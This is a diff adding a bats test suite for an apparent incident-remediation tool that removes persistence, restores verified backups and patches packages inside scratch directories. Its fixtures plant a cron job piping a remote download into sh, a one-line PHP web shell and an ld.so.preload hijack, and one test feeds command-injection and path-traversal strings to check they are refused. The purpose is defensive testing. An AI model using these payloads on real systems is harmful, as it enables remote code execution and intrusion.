@@ -1,0 +1,324 @@
+#!/usr/bin/env bats
+# irremedy: what is taken away, put back and mended, in scratch roots.
+
+setup() {
+	bats_require_minimum_version 1.5.0
+	BIN=$(cd "${BIN:-$BATS_TEST_DIRNAME/../../build/bin}" && pwd)
+	cd "$BATS_TEST_TMPDIR" || return 1
+	unset SSH_CONNECTION SSH_CLIENT
+	mkdir root
+	printf '{}\n' >site.yaml
+}
+
+act() {
+	"$BIN/irremedy" --root root --state st --site site.yaml --stop-file none \
+		--now "$(date -u +%Y-%m-%dT%H:%M:%SZ)" "$@"
+}
+
+field() { jq -r "select(.\"ir.kind\" == \"action\") | .\"ir.action.$1\""; }
+
+# persist KIND MEMBER VALUE
+persist() {
+	jq -nc --arg k "$1" --arg m "$2" --arg v "$3" \
+		'{"do":"remove-persistence","approval":"none","target":({kind:$k} + {($m):$v})}'
+}
+
+# restore PATH FROM
+restore() {
+	jq -nc --arg p "$1" --arg f "$2" \
+		'{"do":"restore-path","approval":"none","target":{path:$p,from:$f}}'
+}
+
+# All that can be compared of a tree: names, modes, owners, times, links, bytes.
+tree() {
+	(cd "$1" && find . \( -type l -printf '%P l %l\n' \) -o -printf '%P %y %m %U %G %T@\n' | sort &&
+		find . -type f -exec sha256sum {} + | sort)
+}
+
+image() {
+	mkdir -p root/etc/cron.d root/etc/systemd/system/multi-user.target.wants \
+		root/var/spool/cron/crontabs root/home/bob/.ssh root/var/www/html/up
+	echo '* * * * * root curl -s http://192.0.2.9/x | sh' >root/etc/cron.d/upd
+	printf '[Service]\nExecStart=/tmp/x\n' >root/etc/systemd/system/upd.service
+	ln -s ../upd.service root/etc/systemd/system/multi-user.target.wants/upd.service
+	echo '@reboot /tmp/x' >root/var/spool/cron/crontabs/bob
+	chmod 600 root/var/spool/cron/crontabs/bob
+	echo 'ssh-ed25519 AAAA x' >root/home/bob/.ssh/authorized_keys
+	echo '<?php system($_GET[0]);' >root/var/www/html/up/img.php
+	echo '/tmp/x.so' >root/etc/ld.so.preload
+	echo 'bob:x:1001:1001::/home/bob:/bin/sh' >root/etc/passwd
+	touch -d 2026-01-02T03:04:05Z root/etc/cron.d/upd root/etc/cron.d
+}
+
+@test "without --apply nothing changes, and the plan says what would" {
+	image
+	tree root >before
+	persist cron path /etc/cron.d/upd | act >out
+	[ "$(field status <out)" = planned ]
+	[[ $(field diff <out) == *'-sha256 '* ]]
+	tree root >after
+	cmp before after
+	[ ! -e st/vault ]
+}
+
+@test "persistence of each kind goes to the vault, and comes back the same" {
+	image
+	tree root >before
+	{
+		persist cron path /etc/cron.d/upd
+		persist cron user bob
+		persist systemd unit upd.service
+		persist authorized-keys user bob
+		persist web-shell path /var/www/html/up/img.php
+		persist ld-preload path /etc/ld.so.preload
+	} >steps
+	act --apply steps >out
+	[ "$(field status <out | sort -u)" = applied ]
+	[ "$(field verify <out | sort -u)" = ok ]
+	for gone in etc/cron.d/upd var/spool/cron/crontabs/bob etc/systemd/system/upd.service \
+		etc/systemd/system/multi-user.target.wants/upd.service home/bob/.ssh/authorized_keys \
+		var/www/html/up/img.php etc/ld.so.preload; do
+		[ ! -e "root/$gone" ] && [ ! -L "root/$gone" ]
+	done
+	act --apply steps >again
+	[ "$(field status <again | sort -u)" = already ]
+	act --audit >audit
+	for id in $(field id <out | tac); do
+		act --apply --undo "$id" --reason 'it was ours' >undone
+		[ "$(field status <undone)" = undone ]
+	done
+	# directories that lost a link have a new time; all else is as it was
+	tree root | grep -v 'multi-user.target.wants d ' >after
+	grep -v 'multi-user.target.wants d ' before | diff - after
+}
+
+@test "only places of persistence are touched" {
+	image
+	mkdir -p root/usr/bin
+	echo x >root/usr/bin/ls
+	ln -s /etc/cron.d/upd root/etc/cron.d/link
+	{
+		persist cron path /usr/bin/ls
+		persist cron path /etc/cron.d/sub/x
+		persist nonsense path /etc/cron.d/upd
+		persist cron path /etc/cron.d/link
+		persist sudoers user bob
+		persist systemd unit ssh.service
+		persist authorized-keys user nobody
+	} >steps
+	printf '[Service]\n' >root/etc/systemd/system/ssh.service
+	run -1 --separate-stderr act --apply steps
+	[ "$(field status <<<"$output" | sort -u)" = refused ]
+	[[ $output == *"is no place of cron"* ]]
+	[[ $output == *"the system needs the unit ssh.service"* ]]
+	[[ $output == *"no account 'nobody'"* ]]
+	[ -e root/usr/bin/ls ] && [ -L root/etc/cron.d/link ] && [ -e root/etc/systemd/system/ssh.service ]
+}
+
+@test "what a package brought is not removed" {
+	image
+	mkdir -p root/var/lib/dpkg/info root/usr/lib/systemd/system
+	printf 'Package: tool\nStatus: install ok installed\nVersion: 1.0-1\n\n' >root/var/lib/dpkg/status
+	printf '/.\n/etc\n/etc/cron.d\n/etc/cron.d/upd\n' >root/var/lib/dpkg/info/tool.list
+	persist cron path /etc/cron.d/upd >step
+	run -1 --separate-stderr act --apply step
+	[[ $(field reason.text <<<"$output") == *"came with the package tool"* ]]
+	[ -e root/etc/cron.d/upd ]
+}
+
+@test "a file that changed since it was looked at stays" {
+	image
+	persist cron path /etc/cron.d/upd | act --apply >out
+	id=$(field id <out)
+	echo other >root/etc/cron.d/upd
+	run -3 --separate-stderr act --apply --undo "$id" --reason r
+	[ "$(cat root/etc/cron.d/upd)" = other ]
+	[ -d st/vault ]
+}
+
+backup() {
+	mkdir -p bk/up root/var/www/html
+	echo good >bk/index.html
+	echo '<?php phpinfo();' >bk/up/a.php
+	ln -s index.html bk/home.html
+	chmod 750 bk/up
+	(cd bk && find . -type f -exec sha256sum {} +) >bk.sha256
+	tar -C bk -czf bk.tgz .
+	cp bk.sha256 bk.tgz.sha256
+	echo bad >root/var/www/html/index.html
+	echo shell >root/var/www/html/x.php
+}
+
+@test "a restored tree is that of the manifest, and undo brings the old one back" {
+	backup
+	for from in dir:$PWD/bk tar:$PWD/bk.tgz; do
+		tree root/var/www/html >before
+		restore /var/www/html "$from" >step
+		act --apply step >out
+		[ "$(field status <out)" = applied ]
+		(cd root/var/www/html && sha256sum -c --quiet ../../../../bk.sha256)
+		[ -L root/var/www/html/home.html ] && [ ! -e root/var/www/html/x.php ]
+		[ "$(stat -c %a root/var/www/html/up)" = 750 ]
+		[ "$(stat -c %a root/var/www/.ir-*)" = 0 ]
+		[ "$(act --apply step | field status)" = already ]
+		act --apply --undo "$(field id <out)" --reason r >undone
+		tree root/var/www/html >after
+		diff before after
+		[ -z "$(find root/var/www -name '.ir-*')" ]
+	done
+}
+
+@test "links in an archive lead nowhere" {
+	backup
+	mkdir -p trap outside/www/html
+	ln -s "$PWD/outside" trap/var
+	echo precious >outside/www/html/index.html
+	tar -C trap -cf trap.tar .
+	cp bk.sha256 trap.tar.sha256
+	restore /var/www/html "tar:$PWD/trap.tar" >step
+	run -3 --separate-stderr act --apply step
+	[ "$(cat outside/www/html/index.html)" = precious ]
+	[ "$(cat root/var/www/html/index.html)" = bad ]
+}
+
+@test "archives of whole paths, and single files, are restored" {
+	backup
+	mkdir -p full/var/www
+	cp -a bk full/var/www/html
+	tar -C full -cf full.tar .
+	(cd full && find ./var -type f -exec sha256sum {} +) >full.tar.sha256
+	restore /var/www/html "tar:$PWD/full.tar" | act --apply >out
+	[ "$(field status <out)" = applied ]
+	[ "$(cat root/var/www/html/index.html)" = good ]
+	mkdir -p root/etc
+	echo wrong >root/etc/conf
+	echo right >conf.bak
+	echo "$(sha256sum <conf.bak | cut -c1-64)  conf" >conf.bak.sha256
+	restore /etc/conf "dir:$PWD/conf.bak" | act --apply >out
+	[ "$(field status <out)" = applied ]
+	[ "$(cat root/etc/conf)" = right ]
+}
+
+@test "a backup that is stale, unproven or tampered with is refused" {
+	backup
+	tree root >before
+	cp -a bk nomanifest
+	cp -a bk tampered
+	echo evil >>tampered/up/a.php
+	cp bk.sha256 tampered.sha256
+	cp -a bk more
+	echo x >more/extra.php
+	cp bk.sha256 more.sha256
+	cp -a bk less
+	rm less/up/a.php
+	cp bk.sha256 less.sha256
+	cp -a bk old
+	cp bk.sha256 old.sha256
+	touch -d '30 days ago' old
+	ln -s bk linked
+	for from in nomanifest old; do
+		restore /var/www/html "dir:$PWD/$from" >step
+		run -1 --separate-stderr act --apply step
+		[ "$(field status <<<"$output")" = refused ]
+	done
+	for from in tampered more less; do
+		restore /var/www/html "dir:$PWD/$from" >step
+		run -3 --separate-stderr act --apply step
+		[ "$(field status <<<"$output")" = failed ]
+	done
+	for from in ftp:/x tar:relative 'restic:/repo' 'borg:/repo#--evil' 'dir:/a/../b'; do
+		restore /var/www/html "$from" >step
+		run -1 --separate-stderr act --apply step
+		[ "$(field status <<<"$output")" = refused ]
+	done
+	tree root >after
+	diff <(grep -v 'var/www d ' before) <(grep -v 'var/www d ' after)
+}
+
+@test "what lies in the vault does not come back from a backup" {
+	backup
+	cp bk/up/a.php root/var/www/html/shell.php
+	persist web-shell path /var/www/html/shell.php | act --apply >/dev/null
+	restore /var/www/html "dir:$PWD/bk" >step
+	run -3 --separate-stderr act --apply step
+	[[ $(field reason.text <<<"$output") == *"the backup is not clean"* ]]
+	[ "$(cat root/var/www/html/index.html)" = bad ]
+}
+
+@test "packages of an image are looked at and not changed" {
+	mkdir -p root/var/lib/dpkg/info
+	printf 'Package: openssl\nStatus: install ok installed\nArchitecture: amd64\nVersion: 3.0.11-1~deb12u2\n\n' >root/var/lib/dpkg/status
+	patch() { jq -nc --arg v "$1" '{"do":"patch-package","approval":"none","target":{package:"openssl",version:$v}}'; }
+	patch 3.0.11-1~deb12u1 >older
+	patch 3.0.11-1~deb12u3 >newer
+	[ "$(act --apply older | field status)" = already ]
+	run -1 --separate-stderr act --apply newer
+	[[ $(field reason.text <<<"$output") == *"on a running system only"* ]]
+}
+
+@test "a package is patched by apt to what mends it, and taken back" {
+	unshare -r -m true || skip "no mount namespace here"
+	mkdir ns
+	cat >ns/apt-get <<-'EOS'
+		#!/bin/sh
+		# stands in for apt: knows one package
+		echo "$*" >>/tmp/apt.calls
+		for last; do :; done
+		case "$*" in
+		*--simulate*) echo 'Inst libfoo [1.0] (1.2 stable [amd64])'; echo 'Inst foo [1.0-1] (1.2-1 stable [amd64])' ;;
+		*foo=*) printf 'Package: foo\nStatus: install ok installed\nVersion: %s\n\n' "${last#*=}" >/var/lib/dpkg/status ;;
+		*) exit 9 ;;
+		esac
+	EOS
+	chmod 755 ns/apt-get
+	printf 'Package: foo\nStatus: install ok installed\nVersion: 1.0-1\n\n' >ns/status
+	jq -nc '{"do":"patch-package","approval":"none","target":{package:"foo",version:"1.1-1"}}' >step
+	cat >ns/run <<-EOS
+		set -eu
+		mount -t tmpfs none /tmp || exit 77
+		mount --bind "$PWD/ns/apt-get" /usr/bin/apt-get
+		mount --bind "$PWD/ns/status" /var/lib/dpkg/status
+		act() { "$BIN/irremedy" --state st --site site.yaml --stop-file none "\$@"; }
+		act step >planned
+		act --apply step >out
+		grep -h Version /var/lib/dpkg/status >versions
+		act --apply step >again
+		act --apply --undo "\$(jq -r '."ir.action.id"' out)" --reason r >undone
+		grep -h Version /var/lib/dpkg/status >>versions
+		cp /tmp/apt.calls calls
+	EOS
+	case $BIN$PWD in */tmp/*) sed -i '/mount -t tmpfs/d; s,/tmp/apt.calls,'"$PWD"'/ns/calls,' ns/run ns/apt-get ;; esac
+	unshare -r -m sh ns/run
+	[ "$(field status <planned)" = planned ]
+	[[ $(field change <planned) == "install foo=1.2-1, with 1 other packages" ]]
+	[ "$(field status <out)" = applied ] && [ "$(field verify <out)" = ok ]
+	[ "$(field status <again)" = already ] && [ "$(field status <undone)" = undone ]
+	[ "$(tr '\n' ' ' <versions)" = "Version: 1.2-1 Version: 1.0-1 " ]
+}
+
+@test "hostile names reach no command and no other file" {
+	image
+	tree root >before
+	while IFS= read -r bad; do
+		persist cron path "/etc/cron.d/$bad"
+		persist systemd unit "$bad"
+		persist authorized-keys user "$bad"
+		restore "/var/$bad" "tar:/$bad"
+		jq -nc --arg v "$bad" '{"do":"patch-package","target":{package:$v,version:$v}}'
+	done >steps <<-'EOS'
+		../../etc/passwd
+		$(touch pwned)
+		; touch pwned
+		--help
+		x/../../y
+		`id`
+		a b
+		%n%n%n
+	EOS
+	run --separate-stderr act --apply --yes --reason r --max-actions 1000 --max-per-hour 1000 steps
+	[ "$status" -eq 1 ]
+	[ -z "$(find . -name 'pwned*')" ]
+	[ -z "$(field status <<<"$output" | grep -v refused | grep -v already)" ]
+	tree root >after
+	diff before after
+}
